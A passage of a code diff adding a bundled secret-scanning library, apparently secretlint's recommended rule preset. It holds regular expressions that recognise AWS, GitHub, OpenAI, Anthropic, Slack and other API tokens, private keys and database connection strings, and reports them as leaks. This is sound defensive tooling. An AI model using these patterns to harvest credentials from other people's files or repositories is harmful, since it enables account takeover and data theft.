+    context.report({
+      message: t2("PostgreSQLConnection", {
+        URI: match2
+      }),
+      range: range3
+    });
+  }
+}
+function reportIfFoundDockerPAT({ source, options: options2, context, t: t2 }) {
+  const DOCKER_PAT_PATTERN = new RegExp("(?<!\\p{L})dckr_pat_[a-zA-Z0-9_-]{27}(?![a-zA-Z0-9_-])", "gu");
+  const results = source.content.matchAll(DOCKER_PAT_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match2 = result[0] || "";
+    const range3 = [index, index + match2.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t2("DOCKER_PERSONAL_ACCESS_TOKEN", {
+        TOKEN: match2
+      }),
+      range: range3
+    });
+  }
+}
+function parseComment(options2) {
+  if (!options2) {
+    return [];
+  }
+  const commentStart = options2.indexOf("--");
+  const ruleIdString = commentStart === -1 ? options2 : options2.slice(0, commentStart);
+  return ruleIdString.split(/,/).map((arg) => arg.trim()).filter((arg) => arg !== "") ?? [];
+}
+var commonjsGlobal, regexpStringMatcher, lodash_uniq, hasRequiredLodash_uniq, lodash_uniqwith, hasRequiredLodash_uniqwith, lodash_sortby, hasRequiredLodash_sortby, escapeStringRegexp, hasRequiredEscapeStringRegexp, regexpParse, hasRequiredRegexpParse, hasRequiredRegexpStringMatcher, regexpStringMatcherExports, BUILTIN_IGNORED, messages$o, reportAWSAccessKey, reportAWSSecretAccessKey, reportAWSAccountID, creator$p, TAG_INTEGER, TAG_OCTET_STRING, TAG_NULL, TAG_OID, TAG_SEQUENCE, TAG_CONTEXT_0, OID_DATA, OID_SHA1, OID_SHA256, OID_SHA384, OID_SHA512, MAC_HASHES, MAX_MAC_ITERATIONS, GCP_SERVICE_ACCOUNT_P12_PASSWORD, messages$n, creator$o, messages$m, isPackageFile, isNpmrc, creator$n, messages$l, creator$m, messages$k, BUILTIN_IGNORED_PATTERNS$1, creator$l, messages$j, creator$k, messages$i, creator$j, messages$h, creator$i, messages$g, creator$h, messages$f, creator$g, messages$e, creator$f, messages$d, PEM_CONTENT_PATTERN, creator$e, messages$c, creator$d, messages$b, creator$c, messages$a, typeMap, creator$b, messages$9, creator$a, messages$8, creator$9, messages$7, is1PasswordServiceAccountToken, creator$8, messages$6, BUILTIN_IGNORED_PATTERNS, creator$7, messages$5, serviceTokenPattern, batchTokenPattern, recoveryTokenPattern, creator$6, messages$4, prefixToMessageId, creator$5, messages$3, creator$4, messages$2, creator$3, messages$1, creator$2, HTML_COMMENT_REGEXP, parseComments, CommentState, messages, creator$1, rules, creator;
+var init_module3 = __esm({
+  "node_modules/@secretlint/secretlint-rule-preset-recommend/module/index.js"() {
+    commonjsGlobal = typeof globalThis !== "undefined" ? globalThis : typeof window !== "undefined" ? window : typeof global !== "undefined" ? global : typeof self !== "undefined" ? self : {};
+    regexpStringMatcher = {};
+    lodash_sortby = { exports: {} };
+    lodash_sortby.exports;
+    regexpParse = {};
+    regexpStringMatcherExports = requireRegexpStringMatcher();
+    BUILTIN_IGNORED = {
+      AWSAccountID: ["AKIAIOSFODNN7EXAMPLE"],
+      AWSSecretAccessKey: ["wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"]
+    };
+    messages$o = {
+      AWSAccountID: {
+        en: (props) => `found AWS Account ID: ${props.ID}`,
+        ja: (props) => `AWS Account ID: ${props.ID} がみつかりました`
+      },
+      AWSSecretAccessKey: {
+        en: (props) => `found AWS Secret Access Key: ${props.KEY}`,
+        ja: (props) => `AWS Secret Access Key: ${props.KEY} がみつかりました`
+      },
+      AWSAccessKeyID: {
+        en: (props) => `found AWS Access Key ID: ${props.ID}`,
+        ja: (props) => `AWS Access Key Id: ${props.ID} がみつかりました`
+      }
+    };
+    reportAWSAccessKey = ({ t: t2, source, context, options: options2 }) => {
+      const AWSAccessKeyIDPattern = /\b(A3T[A-Z0-9]|AKIA|AGPA|AIDA|AROA|AIPA|ANPA|ANVA|ASIA)[A-Z0-9]{16}\b/g;
+      const results = source.content.matchAll(AWSAccessKeyIDPattern);
+      for (const result of results) {
+        const index = result.index || 0;
+        const match2 = result[0] || "";
+        const range3 = [index, index + match2.length];
+        if (BUILTIN_IGNORED.AWSAccountID.includes(match2)) {
+          continue;
+        }
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+        if (allowedResults.length > 0) {
+          continue;
+        }
+        context.report({
+          message: t2("AWSAccessKeyID", {
+            ID: match2
+          }),
+          range: range3
+        });
+      }
+    };
+    reportAWSSecretAccessKey = ({ t: t2, source, context, options: options2 }) => {
+      const AWS2 = "(?:AWS|aws|Aws)?_?";
+      const QUOTE2 = `["']?`;
+      const CONNECT = "\\s*(?::|=>|=)\\s*";
+      const AWSSecretPatten = new RegExp(String.raw`${QUOTE2}${AWS2}(?:SECRET|secret|Secret)_?(?:ACCESS|access|Access)_?(?:KEY|key|Key)${QUOTE2}${CONNECT}${QUOTE2}([A-Za-z0-9/\+=]{40})${QUOTE2}\b`, "g");
+      const results = source.content.matchAll(AWSSecretPatten);
+      for (const result of results) {
+        const index = result.index || 0;
+        const match2 = result[1] || "";
+        const range3 = [index, index + match2.length];
+        if (BUILTIN_IGNORED.AWSSecretAccessKey.includes(match2)) {
+          continue;
+        }
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+        if (allowedResults.length > 0) {
+          continue;
+        }
+        context.report({
+          message: t2("AWSSecretAccessKey", {
+            KEY: match2
+          }),
+          range: range3
+        });
+      }
+    };
+    reportAWSAccountID = ({ t: t2, source, context, options: options2 }) => {
+      const AWS2 = "(AWS|aws|Aws)?_?";
+      const QUOTE2 = `("|')?`;
+      const CONNECT = "\\s*(:|=>|=)\\s*";
+      const AWSSecretPatten = new RegExp(String.raw`${QUOTE2}${AWS2}(ACCOUNT|account|Account)_?(ID|id|Id)?${QUOTE2}${CONNECT}${QUOTE2}[0-9]{4}\-?[0-9]{4}\-?[0-9]{4}${QUOTE2}\b`, "g");
+      const results = source.content.matchAll(AWSSecretPatten);
+      for (const result of results) {
+        const index = result.index || 0;
+        const match2 = result[0] || "";
+        const range3 = [index, index + match2.length];
+        const allowedResults = regexpStringMatcherExports.matchPatterns(match2, options2.allows);
+        if (allowedResults.length > 0) {
+          continue;
+        }
+        context.report({
+          message: t2("AWSAccountID", {
+            ID: match2
+          }),
+          range: range3
+        });
+      }
+    };
+    creator$p = {
+      messages: messages$o,
+      meta: {
+        id: "@secretlint/secretlint-rule-aws",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-aws/README.md"
+        }
+      },
+      create(context, options2) {
+        const normalizedOptions = {
+          allows: options2.allows || [],
+          enableIDScanRule: options2.enableIDScanRule ?? false
+        };
+        const t2 = context.createTranslator(messages$o);
+        return {
+          file(source) {
+            if (normalizedOptions.enableIDScanRule) {
+              reportAWSAccessKey({ t: t2, source, context, options: normalizedOptions });
+              reportAWSAccountID({ t: t2, source, context, options: normalizedOptions });
+            }
+            reportAWSSecretAccessKey({ t: t2, source, context, options: normalizedOptions });
+          }
+        };
+      }
+    };
+    TAG_INTEGER = 2;
+    TAG_OCTET_STRING = 4;
+    TAG_NULL = 5;
+    TAG_OID = 6;
+    TAG_SEQUENCE = 48;
+    TAG_CONTEXT_0 = 160;
+    OID_DATA = new Uint8Array([42, 134, 72, 134, 247, 13, 1, 7, 1]);
+    OID_SHA1 = new Uint8Array([43, 14, 3, 2, 26]);
+    OID_SHA256 = new Uint8Array([96, 134, 72, 1, 101, 3, 4, 2, 1]);
+    OID_SHA384 = new Uint8Array([96, 134, 72, 1, 101, 3, 4, 2, 2]);
+    OID_SHA512 = new Uint8Array([96, 134, 72, 1, 101, 3, 4, 2, 3]);
+    MAC_HASHES = [
+      { oid: OID_SHA1, hash: { name: "SHA-1", outputSize: 20, blockSize: 64 } },
+      { oid: OID_SHA256, hash: { name: "SHA-256", outputSize: 32, blockSize: 64 } },
+      { oid: OID_SHA384, hash: { name: "SHA-384", outputSize: 48, blockSize: 128 } },
+      { oid: OID_SHA512, hash: { name: "SHA-512", outputSize: 64, blockSize: 128 } }
+    ];
+    MAX_MAC_ITERATIONS = 1e6;
+    GCP_SERVICE_ACCOUNT_P12_PASSWORD = "notasecret";
+    messages$n = {
+      PrivateKeyP12: {
+        en: (props) => `found GCP Service Account's private key(p12): ${props.FILE_NAME}`,
+        ja: (props) => `GCPサービスアカウントの秘密鍵(p12) ${props.FILE_NAME} がみつかりました`
+      },
+      PrivateKeyJSON: {
+        en: (props) => `found GCP Service Account's private key(json): ${props.FILE_NAME}`,
+        ja: (props) => `GCPサービスアカウントの秘密鍵(json): ${props.FILE_NAME} がみつかりました`
+      }
+    };
+    creator$o = {
+      messages: messages$n,
+      meta: {
+        id: "@secretlint/secretlint-rule-gcp",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["all"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-gcp/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$n);
+        ({
+          allows: options2.allows || []
+        });
+        return {
+          file(source) {
+            if (source.ext === ".p12") {
+              return reportIfFoundPrivateKeyP12Format({ source, context, t: t2 });
+            } else if (source.ext === ".json") {
+              return reportIfFoundPrivateKeyJSONFormat({ source, context, t: t2 });
+            }
+          }
+        };
+      }
+    };
+    messages$m = {
+      PackageJSON_xOauthToken: {
+        en: (props) => `found GitHub Token: ${props.TOKEN}`,
+        ja: (props) => `GitHub Token: ${props.TOKEN} がみつかりました`
+      },
+      Npmrc_authToken: {
+        en: (props) => `found npmrc authToken: ${props.TOKEN}`,
+        ja: (props) => `npmrc authToken: ${props.TOKEN} がみつかりました`
+      },
+      NPM_ACCESS_TOKEN: {
+        en: (props) => `found npm access token: ${props.TOKEN}`,
+        ja: (props) => `npm access token: ${props.TOKEN} がみつかりました`
+      }
+    };
+    isPackageFile = (filePath) => {
+      if (!filePath) {
+        return true;
+      }
+      return filePath.endsWith("package.json") || filePath.endsWith("package-lock.json");
+    };
+    isNpmrc = (filePath) => {
+      if (!filePath) {
+        return true;
+      }
+      return filePath.endsWith(".npmrc");
+    };
+    creator$n = {
+      messages: messages$m,
+      meta: {
+        id: "@secretlint/secretlint-rule-npm",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-npm/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$m);
+        const normalizedOptions = {
+          allows: options2.allows || []
+        };
+        return {
+          file(source) {
+            if (isPackageFile(source.filePath)) {
+              reportIfFoundXOauthGitHubToken({ source, options: normalizedOptions, context, t: t2 });
+            } else if (isNpmrc(source.filePath)) {
+              reportIfFound_AuthTokenInNpmrc({ source, options: normalizedOptions, context, t: t2 });
+            }
+            reportIfFound_NPM_ACCESS_TOKEN({ source, options: normalizedOptions, context, t: t2 });
+          }
+        };
+      }
+    };
+    messages$l = {
+      SLACK_TOKEN: {
+        en: (props) => `found slack token: ${props.TOKEN}`,
+        ja: (props) => `Slackトークン: ${props.TOKEN} がみつかりました`
+      },
+      IncomingWebhook: {
+        en: (props) => `found Slack Incoming Webhook: ${props.URL}`,
+        ja: (props) => `SlackのIncoming Webhooks: ${props.TOKEN} がみつかりました`
+      }
+    };
+    creator$m = {
+      messages: messages$l,
+      meta: {
+        id: "@secretlint/secretlint-rule-slack",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-slack/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$l);
+        const normalizedOptions = {
+          allows: options2.allows || []
+        };
+        return {
+          file(source) {
+            reportIfFoundRawPrivateKey$1({ source, options: normalizedOptions, context, t: t2 });
+            reportIfFoundIncomingWebhook({ source, options: normalizedOptions, context, t: t2 });
+          }
+        };
+      }
+    };
+    messages$k = {
+      BasicAuth: {
+        en: (props) => `found basic auth credential: ${props.CREDENTIAL}`,
+        ja: (props) => `ベーシック認証情報: ${props.CREDENTIAL} がみつかりました`
+      }
+    };
+    BUILTIN_IGNORED_PATTERNS$1 = [
+      "localhost",
+      "127.0.0.1",
+      "password",
+      "mypassword",
+      "myusername",
+      "{password}",
+      "${password}",
+      "{{password}}",
+      "{username}",
+      "${username}",
+      "{{username}}",
+      "YOUR_PASSWORD",
+      "YOUR_USERNAME",
+      "REPLACE_WITH_PASSWORD",
+      "REPLACE_WITH_USERNAME"
+    ];
+    creator$l = {
+      messages: messages$k,
+      meta: {
+        id: "@secretlint/secretlint-rule-basicauth",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-basicauth/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$k);
+        const normalizedOptions = {
+          allows: options2.allows || []
+        };
+        return {
+          file(source) {
+            reportIfFoundBasicAuth({ source, options: normalizedOptions, context, t: t2 });
+          }
+        };
+      }
+    };
+    messages$j = {
+      OPENAI_TOKEN: {
+        en: (props) => `found OpenAI API token: ${props.TOKEN}`,
+        ja: (props) => `OpenAI API トークン: ${props.TOKEN} がみつかりました`
+      }
+    };
+    creator$k = {
+      messages: messages$j,
+      meta: {
+        id: "@secretlint/secretlint-rule-openai",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-openai/README.md"
+        }
+      },
+      create(context) {
+        const t2 = context.createTranslator(messages$j);
+        return {
+          file(source) {
+            const pattern = /sk-(?:proj|svcacct|admin)-(?:[A-Za-z0-9_-]{74}|[A-Za-z0-9_-]{58})T3BlbkFJ(?:[A-Za-z0-9_-]{74}|[A-Za-z0-9_-]{58})\b|sk-[a-zA-Z0-9]{20}T3BlbkFJ[a-zA-Z0-9]{20}/g;
+            const matches2 = source.content.matchAll(pattern);
+            for (const match2 of matches2) {
+              const index = match2.index ?? 0;
+              const matchString = match2[0] ?? "";
+              const range3 = [index, index + matchString.length];
+              context.report({
+                message: t2("OPENAI_TOKEN", {
+                  TOKEN: matchString
+                }),
+                range: range3
+              });
+            }
+          }
+        };
+      }
+    };
+    messages$i = {
+      ANTHROPIC_API_KEY: {
+        en: (props) => `found Anthropic Claude API key: ${props.KEY}`,
+        ja: (props) => `Anthropic Claude API キー: ${props.KEY} がみつかりました`
+      }
+    };
+    creator$j = {
+      messages: messages$i,
+      meta: {
+        id: "@secretlint/secretlint-rule-anthropic",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-anthropic/README.md"
+        }
+      },
+      create(context) {
+        const t2 = context.createTranslator(messages$i);
+        return {
+          file(source) {
+            const pattern = new RegExp("(?<!\\p{L})sk-ant-api0\\d-[A-Za-z0-9_-]{90,128}AA(?![A-Za-z0-9_-])", "gu");
+            const matches2 = source.content.matchAll(pattern);
+            for (const match2 of matches2) {
+              const index = match2.index ?? 0;
+              const matchString = match2[0] ?? "";
+              const range3 = [index, index + matchString.length];
+              context.report({
+                message: t2("ANTHROPIC_API_KEY", {
+                  KEY: matchString
+                }),
+                range: range3
+              });
+            }
+          }
+        };
+      }
+    };
+    messages$h = {
+      GROQ_API_KEY: {
+        en: (props) => `found Groq API key: ${props.KEY}`,
+        ja: (props) => `Groq API キー: ${props.KEY} がみつかりました`
+      }
+    };
+    creator$i = {
+      messages: messages$h,
+      meta: {
+        id: "@secretlint/secretlint-rule-groq",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-groq/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$h);
+        const normalizedOptions = {
+          allows: options2?.allows ?? []
+        };
+        return {
+          file(source) {
+            const pattern = new RegExp("(?<!\\p{L})gsk_[a-zA-Z0-9]{52}(?![a-zA-Z0-9])", "gu");
+            const matches2 = source.content.matchAll(pattern);
+            for (const match2 of matches2) {
+              const index = match2.index ?? 0;
+              const matchString = match2[0] ?? "";
+              const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+              if (allowedResults.length > 0) {
+                continue;
+              }
+              const range3 = [index, index + matchString.length];
+              context.report({
+                message: t2("GROQ_API_KEY", {
+                  KEY: matchString
+                }),
+                range: range3
+              });
+            }
+          }
+        };
+      }
+    };
+    messages$g = {
+      HUGGINGFACE_USER_ACCESS_TOKEN: {
+        en: (props) => `found Hugging Face User Access Token: ${props.TOKEN}`,
+        ja: (props) => `Hugging Face User Access Token: ${props.TOKEN} がみつかりました`
+      }
+    };
+    creator$h = {
+      messages: messages$g,
+      meta: {
+        id: "@secretlint/secretlint-rule-huggingface",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-huggingface/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$g);
+        const normalizedOptions = {
+          allows: options2?.allows ?? []
+        };
+        return {
+          file(source) {
+            const pattern = new RegExp("(?<!\\p{L})hf_[a-zA-Z]{34}(?![a-zA-Z])", "gu");
+            const matches2 = source.content.matchAll(pattern);
+            for (const match2 of matches2) {
+              const index = match2.index ?? 0;
+              const matchString = match2[0] ?? "";
+              const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+              if (allowedResults.length > 0) {
+                continue;
+              }
+              const range3 = [index, index + matchString.length];
+              context.report({
+                message: t2("HUGGINGFACE_USER_ACCESS_TOKEN", {
+                  TOKEN: matchString
+                }),
+                range: range3
+              });
+            }
+          }
+        };
+      }
+    };
+    messages$f = {
+      LINEAR_API_TOKEN: {
+        en: (props) => `found linear api token: ${props.ID}`,
+        ja: (props) => `linear api token: ${props.ID} がみつかりました`
+      }
+    };
+    creator$g = {
+      messages: messages$f,
+      meta: {
+        id: "@secretlint/secretlint-rule-linear",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-linear/README.md"
+        }
+      },
+      create(context) {
+        const t2 = context.createTranslator(messages$f);
+        return {
+          file(source) {
+            const pattern = new RegExp("(?<!\\p{L})lin_api_[a-zA-Z0-9_]{32,128}(?![a-zA-Z0-9_])", "gu");
+            const matches2 = source.content.matchAll(pattern);
+            for (const match2 of matches2) {
+              const index = match2.index ?? 0;
+              const matchString = match2[0] ?? "";
+              const range3 = [index, index + matchString.length];
+              context.report({
+                message: t2("LINEAR_API_TOKEN", {
+                  ID: matchString
+                }),
+                range: range3
+              });
+            }
+          }
+        };
+      }
+    };
+    messages$e = {
+      NOTION_INTEGRATION_TOKEN: {
+        en: (props) => `found Notion integration token: ${props.TOKEN}`,
+        ja: (props) => `Notion integration トークン: ${props.TOKEN} がみつかりました`
+      }
+    };
+    creator$f = {
+      messages: messages$e,
+      meta: {
+        id: "@secretlint/secretlint-rule-notion",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-notion/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$e);
+        const normalizedOptions = {
+          allows: options2.allows ?? []
+        };
+        return {
+          file(source) {
+            reportIfFoundToken({ source, options: normalizedOptions, context, t: t2 });
+          }
+        };
+      }
+    };
+    messages$d = {
+      PrivateKey: {
+        en: (props) => `found private key: ${props.KEY}`,
+        ja: (props) => `秘密鍵: ${props.KEY} がみつかりました`
+      }
+    };
+    PEM_CONTENT_PATTERN = /-----BEGIN[ ]?(?:(?:RSA|DSA|EC|OPENSSH|PGP) )?PRIVATE KEY(?: BLOCK)?-----\n?([A-Za-z0-9+/=\s\\]{100,10000})\n?-----END[ ]?(?:(?:RSA|DSA|EC|OPENSSH|PGP) )?PRIVATE KEY(?: BLOCK)?-----/gm;
+    creator$e = {
+      messages: messages$d,
+      meta: {
+        id: "@secretlint/secretlint-rule-privatekey",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-privatekey/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$d);
+        const normalizedOptions = {
+          allows: options2.allows || []
+        };
+        return {
+          file(source) {
+            reportIfFoundRawPrivateKey({ source, options: normalizedOptions, context, t: t2 });
+          }
+        };
+      }
+    };
+    messages$c = {
+      SENDGRID_KEY: {
+        en: (props) => `found Sendgrid api key: ${props.KEY}`,
+        ja: (props) => `Sendgrid APIキーが見つかりました： ${props.KEY}`
+      }
+    };
+    creator$d = {
+      messages: messages$c,
+      meta: {
+        id: "@secretlint/secretlint-rule-sendgrid",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-sendgrid/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$c);
+        const normalizedOptions = {
+          allows: options2.allows || []
+        };
+        return {
+          file(source) {
+            reportIfFoundKey$3({ source, options: normalizedOptions, context, t: t2 });
+          }
+        };
+      }
+    };
+    messages$b = {
+      SHOPIFY_KEY: {
+        en: (props) => `found Shopify api key: ${props.KEY}`,
+        ja: (props) => `Shopify APIキーが見つかりました： ${props.KEY}`
+      }
+    };
+    creator$c = {
+      messages: messages$b,
+      meta: {
+        id: "@secretlint/secretlint-rule-shopify",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-shopify/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$b);
+        const normalizedOptions = {
+          allows: options2.allows || []
+        };
+        return {
+          file(source) {
+            reportIfFoundKey$2({ source, options: normalizedOptions, context, t: t2 });
+          }
+        };
+      }
+    };
+    messages$a = {
+      GITHUB_TOKEN: {
+        en: (props) => `found GitHub Token(${props.typeName}): ${props.KEY}`,
+        ja: (props) => `GitHub Token(${props.typeName})が見つかりました： ${props.KEY}`
+      }
+    };
+    typeMap = /* @__PURE__ */ new Map([
+      ["ghp", "GitHub personal access tokens"],
+      ["gho", "OAuth access tokens"],
+      ["ghu", "GitHub user-to-server tokens"],
+      ["ghs", "GitHub server-to-server tokens"],
+      ["ghr", "refresh tokens"],
+      ["github_pat", "fine-grained personal access tokens"]
+    ]);
+    creator$b = {
+      messages: messages$a,
+      meta: {
+        id: "@secretlint/secretlint-rule-github",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-github/README.md"
+        }
+      },
+      create(context, options2) {
+        const CLASSIC_GITHUB_TOKEN_PATTERN = new RegExp("(?<!\\p{L})(?<type>ghp|gho|ghu|ghs|ghr)_[A-Za-z0-9_]{36}(?![A-Za-z0-9_])", "gu");
+        const FINE_GRAINED_GITHUB_TOKEN_PATTERN = new RegExp("(?<!\\p{L})(?<type>github_pat)_[A-Za-z0-9_]{82}(?![A-Za-z0-9_])", "gu");
+        const patterns = [CLASSIC_GITHUB_TOKEN_PATTERN, FINE_GRAINED_GITHUB_TOKEN_PATTERN];
+        const t2 = context.createTranslator(messages$a);
+        const normalizedOptions = {
+          allows: options2.allows || []
+        };
+        return {
+          file(source) {
+            for (const pattern of patterns) {
+              reportIfFoundKey$1({ pattern, source, options: normalizedOptions, context, t: t2 });
+            }
+          }
+        };
+      }
+    };
+    messages$9 = {
+      GITLAB_PERSONAL_ACCESS_TOKEN: {
+        en: (props) => `found GitLab Personal Access Token: ${props.KEY}`,
+        ja: (props) => `GitLab Personal Access Tokenが見つかりました: ${props.KEY}`
+      }
+    };
+    creator$a = {
+      messages: messages$9,
+      meta: {
+        id: "@secretlint/secretlint-rule-gitlab",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-gitlab/README.md"
+        }
+      },
+      create(context, options2) {
+        const GITLAB_PERSONAL_ACCESS_TOKEN_PATTERN = new RegExp("(?<!\\p{L})glpat-[A-Za-z0-9_-]{20,128}(?![A-Za-z0-9_-])", "gu");
+        const patterns = [GITLAB_PERSONAL_ACCESS_TOKEN_PATTERN];
+        const t2 = context.createTranslator(messages$9);
+        const normalizedOptions = {
+          allows: options2.allows ?? []
+        };
+        return {
+          file(source) {
+            for (const pattern of patterns) {
+              reportIfFoundKey({ pattern, source, options: normalizedOptions, context, t: t2 });
+            }
+          }
+        };
+      }
+    };
+    messages$8 = {
+      GRAFANA_CLOUD_API_TOKEN: {
+        en: (props) => `found Grafana Cloud API token: ${props.TOKEN}`,
+        ja: (props) => `Grafana Cloud API トークン: ${props.TOKEN} がみつかりました`
+      },
+      GRAFANA_SERVICE_ACCOUNT_TOKEN: {
+        en: (props) => `found Grafana Service Account token: ${props.TOKEN}`,
+        ja: (props) => `Grafana Service Account トークン: ${props.TOKEN} がみつかりました`
+      }
+    };
+    creator$9 = {
+      messages: messages$8,
+      meta: {
+        id: "@secretlint/secretlint-rule-grafana",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-grafana/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$8);
+        const normalizedOptions = {
+          allows: options2?.allows ?? []
+        };
+        const GRAFANA_CLOUD_API_TOKEN_PATTERN = new RegExp("(?<!\\p{L})glc_[A-Za-z0-9+/]{32,400}={0,2}(?![A-Za-z0-9+/=])", "gu");
+        const GRAFANA_SERVICE_ACCOUNT_TOKEN_PATTERN = new RegExp("(?<!\\p{L})glsa_[A-Za-z0-9]{32}_[A-Fa-f0-9]{8}(?![A-Fa-f0-9])", "gu");
+        return {
+          file(source) {
+            reportIfFound({
+              pattern: GRAFANA_CLOUD_API_TOKEN_PATTERN,
+              messageId: "GRAFANA_CLOUD_API_TOKEN",
+              source,
+              options: normalizedOptions,
+              context,
+              t: t2
+            });
+            reportIfFound({
+              pattern: GRAFANA_SERVICE_ACCOUNT_TOKEN_PATTERN,
+              messageId: "GRAFANA_SERVICE_ACCOUNT_TOKEN",
+              source,
+              options: normalizedOptions,
+              context,
+              t: t2
+            });
+          }
+        };
+      }
+    };
+    messages$7 = {
+      OPS_TOKEN: {
+        en: (props) => `found 1Password Service Account token: ${props.TOKEN}`,
+        ja: (props) => `1Password Service Account: ${props.TOKEN} がみつかりました`
+      }
+    };
+    is1PasswordServiceAccountToken = (base64String) => {
+      try {
+        const jsonString = atob(base64String.replace(/-/g, "+").replace(/_/g, "/"));
+        const json = JSON.parse(jsonString);
+        return typeof json === "object" && json !== null;
+      } catch (error) {
+        return false;
+      }
+    };
+    creator$8 = {
+      messages: messages$7,
+      meta: {
+        id: "@secretlint/secretlint-rule-1password",
+        recommended: true,
+        type: "scanner",
+        supportedContentTypes: ["text"],
+        docs: {
+          url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-1password/README.md"
+        }
+      },
+      create(context, options2) {
+        const t2 = context.createTranslator(messages$7);
+        const normalizedOptions = {
+          allows: options2?.allows ?? []
+        };
+        return {
+          file(source) {
+            const pattern = new RegExp("(?<!\\p{L})ops_(ey[A-Za-z0-9+/=]{100,1280}fQ={0,2})(?![A-Za-z0-9+/=])", "gu");
+            const matches2 = source.content.matchAll(pattern);
+            for (const match2 of matches2) {
+              const index = match2.index ?? 0;
+              const matchString = match2[0] ?? "";
+              const base64String = match2[1] ?? "";
+              if (!is1PasswordServiceAccountToken(base64String)) {
+                continue;
+              }
+              const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+              if (allowedResults.length > 0) {
+                continue;
+              }
+              const range3 = [index, index + matchString.length];
+              context.report({
+                message: t2("OPS_TOKEN", {
+                  TOKEN: matchString
+                }),
+                range: range3
+              });
+            }
+          }
+        };
+      }
+    };
+    messages$6 = {
+      MongoDBConnection: {
+        en: (props) => `found MongoDB connection string: ${props.URI}`,
+        ja: (props) => `MongoDB接続文字列: ${props.URI} がみつかりました`
+      },
+      MySQLConnection: {
+        en: (props) => `found MySQL connection string: ${props.URI}`,
+        ja: (props) => `MySQL接続文字列: ${props.URI} がみつかりました`
+      },
+      PostgreSQLConnection: {
+        en: (props) => `found PostgreSQL connection string: ${props.URI}`,
+        ja: (props) => `PostgreSQL接続文字列: ${props.URI} がみつかりました`
+      }
+    };
+    BUILTIN_IGNORED_PATTERNS = [
+      "localhost",
+      "127.0.0.1",
+      "example.com",
+      "example.org",
+      "test.com",
+      "password",
+      "username",
+      "secret",
+      "mypassword",
+      "myusername",
+      "root",
+      "admin",
+      "user",
+      "pass",
+      "{password}",
+      "${password}",
+      "{{password}}",
+      "{username}",
+      "${username}",
+      "{{username}}",
+      "YOUR_PASSWORD",
